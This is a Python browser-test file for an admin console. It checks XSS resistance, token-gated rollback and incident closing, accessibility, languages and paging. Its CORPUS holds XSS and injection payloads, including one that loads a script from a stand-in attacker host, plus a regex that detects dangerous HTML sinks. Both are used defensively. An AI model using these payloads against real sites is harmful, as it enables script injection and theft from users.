"""The console in a real browser: it lives, it can be used without a mouse, and runs nothing that anybody said."""

from __future__ import annotations

import importlib.util
import json
import re
from pathlib import Path

import pytest

from guard.admin import shapes
from guard.admin.console import TYPES
from slo.clock import SystemClock
from tests.browser import Page, browser, needs_chromium
from tests.unit.admin_helpers import TOKEN, Site
from tests.unit.test_admin_server import serving

pytestmark = [pytest.mark.anyio, pytest.mark.slow, needs_chromium]
READY = "document.getElementById('main')?.dataset.ready"
AXE = importlib.util.find_spec("axe_core_python")
MAKES_HTML = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function")
CORPUS = (
    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\">", "javascript:document.title='owned'", "\"><iframe srcdoc='<script>'>",
    "{{constructor.constructor('document.title=1')()}}", "</textarea><script src=//evil.example/x.js></script>",
    "<a href='//evil.example'>x</a>", "<style>@import url(//evil.example/x.css)</style>",
    "\u202egnp.exe\u2066<b>", "<math><mi//xlink:href=\"data:x,<script>document.title='owned'</script>\">",
)  # fmt: skip


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class ManyRows:
    """A backend with 50 releases and 1,000 exchanges to give."""

    def __init__(self, site: Site) -> None:
        self.plain = site.backend
        rows = self.plain.slo().objectives
        many = [
            shapes.SloRow(f"rule-{n}", rows[1].indicator, f"release{n:02}", "stable", "ok", False, 0.01, 0.05, 0.02,
                          "ratio", 3600.0, 500, 400, "rollback", "fine")
            for n in range(50)
        ]  # fmt: skip
        report = shapes.SloReport("faq-bot", 1.0, tuple(many))
        exchange = self.plain.exchanges(1).exchanges[0]
        self.plain.slo = lambda: report  # type: ignore[method-assign]
        self.plain.exchanges = lambda limit: shapes.ExchangeList((exchange,) * limit)  # type: ignore[method-assign]


async def test_nothing_that_anybody_said_is_run_or_fetched() -> None:
    for words in (" ".join(CORPUS), *CORPUS[:3]):
        site = Site(words=words, clock=SystemClock())
        async with serving(site) as handle, browser() as page:
            await page.open(f"{handle.url}/", READY)
            assert await page.run("document.querySelectorAll('iframe,img,object,embed,base').length") == 0
            assert await page.run("[...document.scripts].map(s => s.src)") == [f"{handle.url}/console/app.js"]
            await page.run("document.querySelector('[data-incident]').click()")
            await page.until("document.getElementById('detail').open")
            assert await page.run("document.title") != "owned"
            strangers = [url for url in page.requests() if not url.startswith(handle.url)]
            assert strangers == []
            assert not [c for c in page.complaints() if "Content Security Policy" in c]


async def test_it_is_live_and_says_when_it_is_not() -> None:
    site = Site(words="fine", clock=SystemClock())
    async with browser() as page:
        async with serving(site) as handle:
            await page.open(f"{handle.url}/?lang=en", READY)
            assert "breach" in await page.run("document.getElementById('slo').textContent")
            assert await page.run("document.querySelectorAll('svg.spark').length") >= 1
            site.backend.words = "changed while it was open"
            await page.until("document.getElementById('release').textContent.includes('changed while it was open')")
        await page.until("!document.getElementById('link').hidden")
        assert "No connection" in await page.run("document.getElementById('link').textContent")
    away = ("ERR_CONNECTION_REFUSED", "ERR_INCOMPLETE")
    assert all(any(word in complaint for word in away) for complaint in page.complaints())


async def test_an_action_needs_the_token_and_the_typed_word() -> None:
    site = Site(words="v1", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        click = "document.querySelector('[data-action=rollback]').click()"
        await page.run(click)
        assert "token" in await page.run("document.getElementById('said').textContent")
        await page.run(f"document.getElementById('token').value = {json.dumps(TOKEN)}")
        await page.run(click)
        await page.until("document.getElementById('confirm').open")
        assert await page.run("document.getElementById('c-go').disabled")
        assert await page.run("document.activeElement.id") == "c-word"
        for key in "v2":
            await page.press(key)
        assert await page.run("document.getElementById('c-go').disabled")
        await page.run("document.getElementById('c-word').value = ''")
        for key in "v1":
            await page.press(key)
        await page.until("!document.getElementById('c-go').disabled")
        assert site.backend.commands == []
        await page.run("document.getElementById('c-go').click()")
        await page.until("document.getElementById('said').textContent === 'rollback done'")
        assert [(name, command.expected_epoch) for name, command, _ in site.backend.commands] == [("rollback", 7)]
        assert await page.run("JSON.stringify(localStorage).includes('a-token')") is False


async def test_an_incident_is_closed_with_the_token_and_a_reason() -> None:
    site = Site(clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/", READY)
        open_it = "document.querySelector('[data-incident]').click()"
        press = "document.querySelector('[data-closes]').click()"
        said = "document.getElementById('close-said').textContent"
        await page.run(open_it)
        await page.until("document.querySelector('[data-closes]') !== null")
        await page.run(press)
        assert await page.run(said) == "Enter the admin token first."
        await page.run(f"document.getElementById('token').value = '{TOKEN}'")
        await page.run(press)
        assert await page.run(said) == "Say in a few words why it is over."
        assert site.backend.closed == []
        await page.run("document.getElementById('close-reason').value = ' wrong index '")
        await page.run(press)
        await page.until(f"{said} === 'fine'")
    ((incident_id, reason, actor),) = site.backend.closed
    assert (incident_id, reason, actor.split(" (")[0]) == ("inc1", "wrong index", "console")


async def test_words_of_an_exchange_need_the_token() -> None:
    site = Site(words="e1", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        await page.run("document.querySelector('[data-exchange]').click()")
        await page.until("document.getElementById('detail').open")
        assert "need the admin token" in await page.run("document.getElementById('d-body').textContent")
        await page.run("document.getElementById('detail').close()")
        await page.run(f"document.getElementById('token').value = {json.dumps(TOKEN)}")
        await page.run("document.querySelector('[data-exchange]').click()")
        await page.until("document.getElementById('d-body').textContent.includes('Answer')")


async def test_keys_language_and_theme() -> None:
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en&theme=light", READY, width=360, height=740)
        assert await page.run("document.documentElement.scrollWidth <= 360"), "wider than a telephone"
        await page.press("l")
        await page.until("document.documentElement.lang === 'zh-TW'")
        assert await page.run("document.getElementById('h-slo').textContent") == "\u76ee\u6a19"
        await page.press("t")
        assert await page.run("document.documentElement.dataset.theme") == "dark"
        await page.press("3")
        assert await page.run("document.activeElement.id") == "s-slo"
        await page.press("p")
        assert await page.run("document.getElementById('pause').getAttribute('aria-pressed')") == "true"


@pytest.mark.skipif(
    importlib.util.find_spec("axe_core_python") is None, reason="needs the PyPI package axe-core-python"
)
@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_axe_finds_nothing_serious(theme: str) -> None:
    assert AXE is not None
    assert AXE.origin is not None
    axe = next(Path(AXE.origin).parent.rglob("axe.min.js")).read_text(encoding="utf-8")
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en&theme={theme}", READY)
        await page.run(axe)
        found = await page.run("axe.run().then(r => r.violations.map(v => [v.impact, v.id, v.nodes.map(n => n.html)]))")
    assert [v for v in found if v[0] in ("serious", "critical")] == []


async def test_a_thousand_exchanges_and_fifty_releases() -> None:
    site = Site(words="fine", clock=SystemClock())
    ManyRows(site)
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        assert await page.run("document.getElementById('slo').tBodies[0].rows.length") == 50
        for wanted in (200, 800, 1000):
            await page.run("document.getElementById('more').click()")
            await page.until(f"document.getElementById('exchanges').tBodies[0].rows.length === {wanted}")
        assert await page.run("document.getElementById('more').hidden")
        assert page.complaints() == []


async def watch_keys(page: Page) -> None:
    """Every key of the words is there in both languages."""
    keys = await page.run("import('/console/words.js').then(m => m.KEYS)")
    assert sorted(keys["en"]) == sorted(keys["zh-TW"])


async def test_both_languages_have_every_word() -> None:
    async with serving(Site(words="fine", clock=SystemClock())) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        await watch_keys(page)


def test_no_part_of_the_page_makes_html_of_a_string_or_names_another_host() -> None:
    folder = Path(__file__).resolve().parents[2] / "guard" / "admin" / "console"
    for name in TYPES:
        text = (folder / name).read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text), (
            name
        )
        addresses = set(re.findall(r"https?://[^\s\"'`)]+", text))
        assert addresses <= {"http://www.w3.org/2000/svg"}, name
